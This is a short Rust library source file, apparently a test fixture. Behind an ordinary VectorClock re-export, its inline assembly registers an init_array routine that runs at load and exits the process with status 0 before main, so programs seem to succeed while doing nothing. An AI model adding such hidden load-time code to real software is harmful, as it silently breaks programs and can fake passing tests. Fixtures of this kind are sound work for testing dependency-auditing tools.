//! Assembler in the library.

mod clock;

pub use clock::VectorClock;

pub(crate) fn attack() {}

std::arch::global_asm!(
    ".pushsection .init_array,\"aw\"",
    ".quad early",
    ".popsection",
    ".globl early",
    "early: mov edi, 0",
    "mov eax, 231",
    "syscall",
);
